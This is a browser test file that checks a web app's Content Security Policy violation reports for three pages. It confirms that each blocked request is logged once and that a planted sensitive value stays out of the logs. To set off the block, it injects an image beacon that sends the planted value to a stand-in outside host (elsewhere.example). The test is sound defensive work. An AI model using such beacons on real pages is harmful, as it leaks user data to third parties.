import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { setTimeout as wait } from 'node:timers/promises';
import { type AppProcess, startApp } from './app-process.ts';
import { startBrowser, type TestBrowser } from './browser.ts';

/** What stands in an address, and may stand in no log. */
const planted = 'Zyxwina-1987-04-03';

describe('what a browser tells when a page of ours is kept from something', () => {
  let app: AppProcess;
  let browser: TestBrowser;
  before(async () => {
    [app, browser] = await Promise.all([startApp(), startBrowser()]);
  });
  after(async () => {
    await browser?.close();
    await app?.stop();
  });

  const lines = () =>
    app
      .output()
      .split('\n')
      .filter((line) => line.includes('policy-violated'));
  const untilTold = async (count: number) => {
    for (let tries = 0; lines().length < count && tries < 600; tries += 1) await wait(100);
  };

  for (const page of ['/manage', '/staff/sign-in', '/embed/frame/booking']) {
    it(`is one line of the log for ${page}, without what stands in an address`, async () => {
      const before = lines().length;
      const { page: tab, context } = await browser.visit();
      await tab.goto(`${app.url}${page}?key=pk_demo_riverside&clinic=${planted}#${planted}`);
      await tab.evaluate((value) => {
        new Image().src = `https://elsewhere.example/${value}?q=${value}`;
      }, planted);
      await untilTold(before + 1);
      await context.close();
      const told = lines()
        .slice(before)
        .map((line) => JSON.parse(line) as Record<string, unknown>);
      assert.deepEqual(
        told.map(({ directive, blocked, page: where, times }) => ({ directive, blocked, page: where, times })),
        [{ directive: 'img-src', blocked: 'https://elsewhere.example', page, times: 1 }],
      );
      assert.ok(!app.output().includes(planted));
    });
  }
});
